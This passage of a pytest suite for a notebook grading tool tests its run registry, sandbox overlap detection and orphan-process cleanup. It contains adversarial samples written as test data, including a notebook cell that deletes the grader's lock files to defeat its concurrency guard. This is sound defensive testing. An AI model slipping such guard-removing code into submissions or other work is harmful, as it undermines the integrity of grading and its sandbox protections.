    (root / "solutions").mkdir(parents=True)
    (root / "pyproject.toml").write_text('[project]\nname = "toy"\n\n[tool.coursekit]\nfast_variable = "TOY_FAST"\n')

    def cell(source, exercise_id, role):
        return nbformat.v4.new_code_cell(source, metadata={"coursekit": {"exercise": exercise_id, "role": role}})

    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.cells = [
        nbformat.v4.new_markdown_cell("# Roots (solutions)"),
        nbformat.v4.new_code_cell("import math\nimport os"),
        cell("### BEGIN SOLUTION\nroot = math.sqrt(16)\n### END SOLUTION", "1.1", "solution"),
        cell('assert root == 4.0, f"expected 4.0, got {root}"', "1.1", "check"),
        cell("### BEGIN SOLUTION\nmode = os.environ.get('TOY_FAST')\n### END SOLUTION", "1.2", "solution"),
        cell('assert mode == "1", f"the course\'s fast variable reads {mode!r}"\n'
             'assert "BERTLIB_CACHE" not in os.environ, "the BERT course\'s hook ran"\n'
             'assert "TOYCOURSE_KERNEL" not in os.environ, "the toy course\'s hook ran"', "1.2", "check"),
    ]
    path = root / "solutions" / "01_roots.ipynb"
    nbformat.write(nb, str(path))
    return path


def test_the_kit_grades_a_course_without_hooks_and_without_the_bert_course(tmp_path, monkeypatch):
    """coursekit is generic: with no hooks, a course of its own is built and graded with its own settings, and the
    BERT course's rules (its datasets, its data folders, its kernel variables) play no part."""
    solution = standalone_course(tmp_path / "roots")
    monkeypatch.setenv("COURSEKIT_ROOT", str(tmp_path / "roots"))
    here = kit_course.current()
    assert (here.hooks, here.metadata_key, here.fast_variable) == ("", "coursekit", "TOY_FAST")
    assert kit_course.kernel_packages() == ("coursekit",) and sandbox.data_paths() == []
    assert grading.needs.lacking("DataNotFoundError", "Dataset 'wnli' (GLUE WNLI: ...) is not on this machine") is None
    Module = grading.needs.Need
    assert grading.needs.refusal({Module("module", "toy_missing"): ["01_roots.ipynb"]}).endswith(
        "  - the Python module toy_missing, needed by 01_roots.ipynb: `pip install toy_missing`")
    exercises.build(solution.parent, tmp_path / "roots" / "exercises")
    learner = tmp_path / "roots" / "exercises" / solution.name
    assert exercises.read_notebook(learner).metadata["coursekit"] == {"chapter": "01", "exercises": ["1.1", "1.2"]}
    wrong = exercises.read_notebook(solution)
    replace_cell_source(wrong, "1.1", "solution", "math.sqrt(16)", "math.sqrt(15)")
    (tmp_path / "wrong").mkdir()
    nbformat.write(wrong, str(tmp_path / "wrong" / solution.name))
    out = tmp_path / "grades.csv"
    result = grading.grade([solution, learner, tmp_path / "wrong" / solution.name], out, timeout=90, unsafe=True)
    assert not result.grader_faults, [row.row() for row in result]
    rows = read_csv(out)
    scores = {(Path(row["notebook"]).parent.name, row["exercise"]): (row["status"], row["score"]) for row in rows}
    assert scores == {("solutions", "1.1"): ("passed", "1"), ("solutions", "1.2"): ("passed", "1"),
                      ("exercises", "1.1"): ("failed", "0"), ("exercises", "1.2"): ("failed", "0"),
                      ("wrong", "1.1"): ("failed", "0"), ("wrong", "1.2"): ("passed", "1")}, rows
    assert "expected 4.0, got 3.87" in by_exercise(rows, tmp_path / "wrong" / solution.name)["1.1"]["message"]


@pytest.fixture(autouse=True)
def private_run_registry(monkeypatch):
    """Each test's own run registry (autouse here and in test_grading_sandbox, which imports it): an unsafe run in
    one test must not be refused because a neighbouring test worker grades at the same time (the machine-wide
    registry is what the registry tests check, through the prefix this returns)."""
    prefix = f"coursekit-grade-test-{os.getpid()}-{time.time_ns()}"
    monkeypatch.setattr(registry, "RUN_REGISTRY", prefix)
    return prefix


HOLD_A_RUN = """
import sys, time
from coursekit.grading import registry
registry.RUN_REGISTRY = sys.argv[2]
registration = registry.register_run(unsafe=sys.argv[1] == "unsafe")
print("held", flush=True)
time.sleep(120)
"""


def _hold_a_run(kind, prefix):
    """Another grading run on this machine, as the registry sees it: a process holding a run's name."""
    process = subprocess.Popen([sys.executable, "-c", HOLD_A_RUN, kind, prefix], stdout=subprocess.PIPE, text=True,
                               env={**os.environ, "PYTHONPATH": str(Path(grading.__file__).parents[3])})
    assert process.stdout.readline().strip() == "held"
    return process


def test_an_unsafe_run_is_refused_beside_another_run_and_a_sandboxed_one_beside_an_unsafe_one(
        course, tmp_path, private_run_registry, capsys):
    """Old grader: an --unsafe-no-sandbox class graded beside a sandboxed run could forge that run's report (its
    root kernel reached the other runner); nothing stopped the two from running together."""
    arguments = ["grade", str(course / "solutions" / TOY_NAME), "--out", str(tmp_path / "g.csv"), "--solutions",
                 str(course / "solutions"), "--timeout", "30"]
    sandboxed = _hold_a_run("sandboxed", private_run_registry)
    try:
        assert main([*arguments, "--unsafe-no-sandbox"]) == 2
        said = capsys.readouterr().out
        assert f"another grading run is active on this machine (pid {sandboxed.pid}: " in said, said
        assert "sandboxed" in said and "wait until it ends" in said and not (tmp_path / "g.csv").exists()
        sandboxed.kill()
        sandboxed.wait()
        unsafe = _hold_a_run("unsafe", private_run_registry)  # the name went with the process: no stale state
    finally:
        sandboxed.kill()
    try:
        assert main(arguments) == 2
        said = capsys.readouterr().out
        assert f"a grading run with --unsafe-no-sandbox is active on this machine (pid {unsafe.pid}: " in said, said
        with pytest.raises(registry.RunConflict):
            registry.register_run(unsafe=True)
    finally:
        unsafe.kill()
        unsafe.wait()
    first = _hold_a_run("sandboxed", private_run_registry)
    try:
        registry.register_run(unsafe=False).release()  # sandboxed runs share the machine
    finally:
        first.kill()
        first.wait()
    registry.register_run(unsafe=True).release()


UNSAFE_CLASS = """
import sys
from pathlib import Path
from coursekit import grading
from coursekit.grading import registry
registry.RUN_REGISTRY = sys.argv[1]
grading.grade([Path(sys.argv[2])], Path(sys.argv[3]), solutions_dir=Path(sys.argv[4]), timeout=120, unsafe=True)
"""

UNDO_THE_GUARD = """
import glob, os, pathlib, time
# the old registry's lock files, and any lock file of ours the grading user can delete
for path in ["/run/coursekit-grade.lock", "/tmp/coursekit-grade.lock", *glob.glob({locks!r})]:
    try:
        os.unlink(path)
    except OSError:
        pass
pathlib.Path({ready!r}).write_text("deleted")
time.sleep(90)
"""


@pytest.mark.slow
def test_an_unsafe_notebook_that_deletes_the_lock_files_cannot_make_a_sandboxed_run_beside_it_look_clean(
        course, tmp_path, private_run_registry, capsys):
    """Old grader: the unsafe run's guard was a lock on /run/coursekit-grade.lock and /tmp/coursekit-grade.lock; its
    notebook (running as the grading user) deleted both, and a sandboxed run started beside it took fresh locks and
    graded, its rows clean, while the unsafe notebook could reach it (checked on the old registry at fadff72's
    successor, HEAD before issue 57: after the deletion, `register_run(unsafe=False)` succeeded beside the unsafe
    run's locks)."""
    ready = tmp_path / "ready"
    nb = exercises.read_notebook(course / "solutions" / TOY_NAME)
    nb.cells.insert(2, nbformat.v4.new_code_cell(UNDO_THE_GUARD.format(locks=str(tmp_path / "*.lock"),
                                                                       ready=str(ready))))
    (tmp_path / "old-registry.lock").write_text("")
    path = course / "submissions" / "undo-the-guard" / TOY_NAME
    path.parent.mkdir()
    nbformat.write(nb, str(path))
    unsafe = subprocess.Popen([sys.executable, "-c", UNSAFE_CLASS, private_run_registry, str(path),
                               str(tmp_path / "unsafe.csv"), str(course / "solutions")],
                              cwd=tmp_path, env=dict(os.environ),  # the toy course's, as conftest.py set it
                              start_new_session=True)
    try:
        deadline = time.monotonic() + 90
        while not ready.exists() and unsafe.poll() is None and time.monotonic() < deadline:
            time.sleep(0.2)
        assert ready.read_text() == "deleted" and not (tmp_path / "old-registry.lock").exists()
        code = main(["grade", str(course / "solutions" / TOY_NAME), "--out", str(tmp_path / "beside.csv"),
                     "--solutions", str(course / "solutions"), "--timeout", "30"])
        said = capsys.readouterr().out
        assert code == 2 and f"a grading run with --unsafe-no-sandbox is active on this machine (pid {unsafe.pid}: " \
            in said, said
        assert not (tmp_path / "beside.csv").exists()
    finally:
        with contextlib.suppress(psutil.NoSuchProcess):
            for process in [*psutil.Process(unsafe.pid).children(recursive=True), psutil.Process(unsafe.pid)]:
                process.kill()
        unsafe.wait()


@pytest.mark.slow
def test_the_rows_of_a_run_that_an_unsafe_run_overlapped_are_marked(course, tmp_path, private_run_registry):
    """An unsafe run that got past the start-up check (here: a process that takes the unsafe name directly, as a run
    in a race or an old grader would) is seen while the sandboxed run goes on, and every row of that run says so."""
    intruder = []

    def take_the_unsafe_name_once_the_run_is_registered():
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and not any(name.startswith(f"{private_run_registry}.run.")
                                                      for name, _ in registry._registered()):
            time.sleep(0.05)
        intruder.append(subprocess.Popen([sys.executable, "-c", TAKE_THE_UNSAFE_NAME, private_run_registry],
                                         stdout=subprocess.PIPE, text=True))
        intruder[0].stdout.readline()

    thread = threading.Thread(target=take_the_unsafe_name_once_the_run_is_registered)
    thread.start()
    try:
        rows = grading.grade([course / "solutions" / TOY_NAME], tmp_path / "overlapped.csv",
                             solutions_dir=course / "solutions", timeout=90)
        thread.join()
        assert [row["status"] for row in rows] == ["passed"] * len(TOY_POINTS)
        expected = f"a run with --unsafe-no-sandbox was active on this machine (pid {intruder[0].pid}: "
        assert all(expected in row["note"] for row in read_csv(tmp_path / "overlapped.csv")), read_csv(
            tmp_path / "overlapped.csv")
        assert rows.overlaps and str(intruder[0].pid) in rows.overlaps[0]
    finally:
        thread.join()
        for process in intruder:
            process.kill()
            process.wait()


TAKE_THE_UNSAFE_NAME = """
import socket, sys, time
sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
sock.bind("\\0" + sys.argv[1] + ".unsafe")
print("bound", flush=True)
time.sleep(120)
"""


@pytest.mark.slow
def test_an_unsafe_kernel_and_what_it_left_behind_die_with_its_run(course, tmp_path, private_run_registry):
    """Old grader: with --unsafe-no-sandbox the kernel's double-forked `setsid` child (as root, here) outlived the
    run: no PID namespace ended it."""
    marker = f"bertlib-unsafe-orphan-{time.time_ns()}"
    nb = exercises.read_notebook(course / "solutions" / TOY_NAME)
    nb.cells.insert(2, nbformat.v4.new_code_cell(ORPHAN.format(started="orphan-started", marker=marker)))
    replace_cell_source(nb, "3.3", "solution", "longest = int(lengths.max())",
                        "assert open('orphan-started').read() == 'started'\nlongest = int(lengths.max())")
    path = course / "submissions" / "unsafe-orphan" / TOY_NAME
    path.parent.mkdir()
    nbformat.write(nb, str(path))

    def survivors():
        return [process for process in psutil.process_iter(["cmdline"]) if marker in (process.info["cmdline"] or [])]

    try:
        rows = grading.grade([path], tmp_path / "orphan.csv", solutions_dir=course / "solutions", timeout=60,
                             unsafe=True)
        assert [row["status"] for row in rows] == ["passed", "passed", "passed"], [row.row() for row in rows]
        time.sleep(1)
        assert not survivors(), "a double-forked setsid child of the unsafe kernel outlived the run"
    finally:
        for process in survivors():
            process.kill()
